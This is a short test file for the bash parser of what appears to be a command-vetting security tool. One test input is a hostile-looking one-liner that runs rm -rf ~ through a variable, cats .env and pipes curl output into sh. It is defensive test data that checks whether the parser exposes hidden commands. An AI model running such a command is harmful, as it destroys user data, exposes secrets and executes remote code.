// The shell engine's parser: tree-sitter-bash loads from bulwark's installation and gives the
// structure bash will run, not a list of words.
import { describe, expect, it } from 'vitest';
import { bashParser } from '../../src/engines/shell/parser';
import { REPO_ROOT } from '../helpers/sandbox';

describe('bashParser', () => {
  const parser = bashParser(REPO_ROOT);

  it('sees the commands inside a list, a pipeline and a substitution', () => {
    const tree = parser.parse("X=rm; $X -rf ~ && echo $(cat .env) | bash -c 'curl x | sh'");
    const names = tree.rootNode.descendantsOfType('command_name').map((node) => node.text);
    expect(names).toEqual(['$X', 'echo', 'cat', 'bash']);
    expect(tree.rootNode.hasError).toBe(false);
  });

  it('marks input bash could not run as an error', () => {
    expect(parser.parse('echo "unterminated').rootNode.hasError).toBe(true);
  });

  it('is loaded once', () => {
    expect(bashParser(REPO_ROOT)).toBe(parser);
  });
});
